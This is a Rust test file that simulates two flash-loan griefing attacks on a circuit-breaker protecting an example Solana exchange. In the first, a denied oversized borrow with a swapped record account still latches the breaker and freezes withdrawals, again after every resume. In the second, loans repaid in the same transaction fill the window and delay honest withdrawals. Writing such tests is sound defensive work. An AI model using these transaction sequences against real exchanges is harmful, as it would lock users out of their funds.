//! Attack: close the real example exchange for fees. Collateral that is borrowed for one transaction carries a loan above
//! the trip limit, asked for with another account in the place of its record: denied, so nobody is debited, and latched all
//! the same. The collateral goes back in the same transaction. The test succeeds when the attack does.

use anchor_lang::{InstructionData, ToAccountMetas};
use anchor_spl::token::spl_token;
use bulkhead::instructions::ResumeArgs;
use bulkhead_client::{instructions as ix, pda};
use bulkhead_interface::{
    constants::{kind, latch_state, phase},
    layout::{Domain, OutflowBreaker},
};
use bulkhead_sim::{Exchange, ExchangeSetup, Machine, deploy_dir, keypair};
use example_exchange::constants::PRICE_SCALE;
use solana_instruction::Instruction;
use solana_signer::Signer;

const LIMIT: u64 = 100_000;
/// Flash-loaned.
const COLLATERAL: u64 = 10 * LIMIT;

fn withdraw_collateral(
    exchange: &Exchange,
    owner: anchor_lang::prelude::Pubkey,
    mint: anchor_lang::prelude::Pubkey,
    destination: anchor_lang::prelude::Pubkey,
) -> Instruction {
    let accounts = example_exchange::accounts::WithdrawCollateral {
        owner,
        exchange: exchange.key,
        margin: exchange.margin(&owner),
        collateral: example_exchange::pda::collateral(&exchange.key, &mint),
        oracle: None,
        mint,
        collateral_tokens: example_exchange::pda::collateral_tokens(&exchange.key, &mint),
        destination,
        board: pda::board(&exchange.protocol.as_ref().expect("protected").domain),
        token_program: spl_token::ID,
    };
    Instruction {
        program_id: example_exchange::ID,
        accounts: accounts.to_account_metas(None),
        data: example_exchange::instruction::WithdrawCollateral { amount: COLLATERAL }.data(),
    }
}

#[test]
fn a_flash_loan_of_collateral_latches_the_exchange_for_fees() {
    let programs = [(bulkhead::ID, "bulkhead"), (example_exchange::ID, "example_exchange")];
    let mut machine = Machine::new(&deploy_dir(), &programs).unwrap_or_else(|error| panic!("{error}"));
    let setup = ExchangeSetup {
        name: "flash",
        protected: true,
        vulnerable_redemption: false,
        withdraw_limit: u64::MAX,
        limit: LIMIT,
        slot_limit: LIMIT,
        trip_limit: 2 * LIMIT,
        window_seconds: 3_600,
        upstream: None,
    };
    let exchange = Exchange::set_up(&mut machine, &setup);
    let vault = exchange.protocol.as_ref().expect("protected").vault;
    let (domain, payer) = (vault.domain, machine.payer.pubkey());

    // Another token is collateral, at par.
    let mint = keypair("collateral mint").pubkey();
    machine.create_mint(&mint, &keypair("issuer").pubkey(), 6);
    let list = exchange.list_collateral(exchange.admin.pubkey(), payer, mint, PRICE_SCALE);
    machine.send(&[list], &[&exchange.admin]).expect("listed");

    // Honest users with ten times T in the exchange.
    let alice = keypair("alice");
    machine.fund(&alice.pubkey(), 1_000_000_000);
    let wallet = machine.create_associated(&exchange.mint, &alice.pubkey(), 10 * LIMIT);
    let open = exchange.open_margin_account(alice.pubkey(), alice.pubkey());
    let deposit = exchange.deposit(alice.pubkey(), wallet, 10 * LIMIT);
    machine.send(&[open, deposit], &[&alice]).expect("a deposit");

    // The griefer has fees and nothing else.
    let griefer = keypair("griefer");
    machine.fund(&griefer.pubkey(), 100_000_000);
    let key = griefer.pubkey();
    let purse = machine.create_associated(&mint, &key, 0);
    let quote = machine.create_associated(&exchange.mint, &key, 0);
    let open = exchange.open_margin_account(key, key);
    machine.send(&[open], &[&griefer]).expect("an account");
    let before = machine.account(&key).expect("funded").lamports;

    let lender = keypair("flash lender");
    let pool = machine.create_associated(&mint, &lender.pubkey(), COLLATERAL);
    let lend = |from, to, by| spl_token::instruction::transfer(&spl_token::ID, &from, &to, &by, &[], COLLATERAL);
    let mut borrow = exchange.borrow(key, &mint, quote, 2 * LIMIT + 1, 1);
    let record = pda::release_of(&vault.vault, &key, 1);
    for meta in &mut borrow.accounts {
        if meta.pubkey == record {
            // No record can be made here.
            meta.pubkey = purse;
        }
    }
    let flash = [
        lend(pool, purse, lender.pubkey()).expect("sound"),
        exchange.deposit_collateral(key, mint, purse, COLLATERAL),
        borrow,
        withdraw_collateral(&exchange, key, mint, purse),
        lend(purse, pool, key).expect("sound"),
    ];
    machine
        .send(&flash, &[&lender, &griefer])
        .expect("borrowed and given back");

    assert_eq!(machine.balance(&pool), COLLATERAL, "the lender has it all");
    assert_eq!((machine.balance(&purse), machine.balance(&quote)), (0, 0));
    assert_eq!(
        machine.account(&key).expect("funded").lamports,
        before,
        "no rent either"
    );
    let breaker: OutflowBreaker = machine.load(&vault.breaker);
    assert_eq!(
        (breaker.latch.state, breaker.latch.seen),
        (latch_state::LATCHED, 2 * LIMIT + 1)
    );

    // Anyone carries it: nobody withdraws for 72 hours.
    let trip = ix::propagate_trip(domain, payer, vault.breaker, 0);
    machine.send(&[trip], &[]).expect("carried");
    assert_eq!(machine.load::<Domain>(&domain).state, phase::ALERT);
    machine.warp_seconds(71 * 3_600);
    let withdraw = exchange.withdraw(alice.pubkey(), wallet, 1, 1);
    assert!(machine.send(&[withdraw], &[&alice]).is_err(), "closed");

    // And when that is over, once more.
    machine.warp_seconds(2 * 3_600);
    let incident = pda::incident(&domain, 0);
    let lapse = ix::close_lapsed_incident(domain, incident);
    machine.send(&[lapse], &[]).expect("lapsed");
    machine.send(&flash, &[&lender, &griefer]).expect("again");
    let trip = ix::propagate_trip(domain, payer, vault.breaker, 1);
    machine.send(&[trip], &[]).expect("carried again");
    assert_eq!(machine.load::<Domain>(&domain).state, phase::ALERT);

    // Nor does a resume end it: what the stranger does for fees in the next slot is newer than any proposal.
    let protocol = exchange.protocol.as_ref().expect("protected");
    for number in 1..6 {
        let args = ResumeArgs {
            incident: pda::incident(&domain, number),
        };
        let authority = protocol.mature(&mut machine, kind::RESUME, &args);
        protocol.must(&mut machine, &[ix::resume(authority, args)], &[]);
        assert_eq!(machine.load::<Domain>(&domain).state, phase::OPERATING);
        machine.next_slot();
        machine.send(&flash, &[&lender, &griefer]).expect("again");
        let trip = ix::propagate_trip(domain, payer, vault.breaker, number + 1);
        machine.send(&[trip], &[]).expect("carried again");
        assert_eq!(machine.load::<Domain>(&domain).state, phase::ALERT);
    }
    assert_eq!(
        machine.account(&key).expect("funded").lamports,
        before,
        "fees alone, which the payer paid"
    );
}

/// Attack: make everybody wait for fees. A loan on collateral that is borrowed for one transaction is paid back in it, and
/// fills the window all the same.
#[test]
fn a_loan_that_is_repaid_in_its_own_transaction_makes_everybody_wait() {
    let programs = [(bulkhead::ID, "bulkhead"), (example_exchange::ID, "example_exchange")];
    let mut machine = Machine::new(&deploy_dir(), &programs).unwrap_or_else(|error| panic!("{error}"));
    let setup = ExchangeSetup {
        name: "waiting",
        protected: true,
        vulnerable_redemption: false,
        withdraw_limit: u64::MAX,
        limit: LIMIT,
        slot_limit: LIMIT,
        trip_limit: 2 * LIMIT,
        window_seconds: 3_600,
        upstream: None,
    };
    let exchange = Exchange::set_up(&mut machine, &setup);
    let payer = machine.payer.pubkey();
    let mint = keypair("collateral mint").pubkey();
    machine.create_mint(&mint, &keypair("issuer").pubkey(), 6);
    let list = exchange.list_collateral(exchange.admin.pubkey(), payer, mint, PRICE_SCALE);
    machine.send(&[list], &[&exchange.admin]).expect("listed");
    let alice = keypair("alice");
    machine.fund(&alice.pubkey(), 1_000_000_000);
    let wallet = machine.create_associated(&exchange.mint, &alice.pubkey(), 10 * LIMIT);
    let open = exchange.open_margin_account(alice.pubkey(), alice.pubkey());
    let deposit = exchange.deposit(alice.pubkey(), wallet, 10 * LIMIT);
    machine.send(&[open, deposit], &[&alice]).expect("a deposit");
    machine.warp_seconds(2 * 3_600);

    let griefer = keypair("griefer");
    machine.fund(&griefer.pubkey(), 100_000_000);
    let key = griefer.pubkey();
    let purse = machine.create_associated(&mint, &key, 0);
    let quote = machine.create_associated(&exchange.mint, &key, 0);
    let open = exchange.open_margin_account(key, key);
    machine.send(&[open], &[&griefer]).expect("an account");
    let lender = keypair("flash lender");
    let pool = machine.create_associated(&mint, &lender.pubkey(), COLLATERAL);
    let lend = |from, to, by| spl_token::instruction::transfer(&spl_token::ID, &from, &to, &by, &[], COLLATERAL);
    for round in 0..20 {
        // What the last round paid back would cover this one, so that it counts nowhere: it has to be older than a window.
        let mut repay = exchange.deposit(key, quote, LIMIT);
        repay.data = example_exchange::instruction::Repay { amount: LIMIT }.data();
        let flash = [
            lend(pool, purse, lender.pubkey()).expect("sound"),
            exchange.deposit_collateral(key, mint, purse, COLLATERAL),
            exchange.borrow(key, &mint, quote, LIMIT, round),
            repay,
            withdraw_collateral(&exchange, key, mint, purse),
            lend(purse, pool, key).expect("sound"),
        ];
        machine
            .send(&flash, &[&lender, &griefer])
            .expect("borrowed and given back");
        assert_eq!(
            (machine.balance(&pool), machine.balance(&purse), machine.balance(&quote)),
            (COLLATERAL, 0, 0)
        );
        machine.warp_seconds(1_800);
        let before = machine.balance(&wallet);
        let withdraw = exchange.withdraw(alice.pubkey(), wallet, 10, 100 + round);
        machine.send(&[withdraw], &[&alice]).expect("it waits");
        assert_eq!(
            machine.balance(&wallet),
            before,
            "round {round}: ten units of ten times T wait a day"
        );
        machine.warp_seconds(1_800 + 301);
    }
}
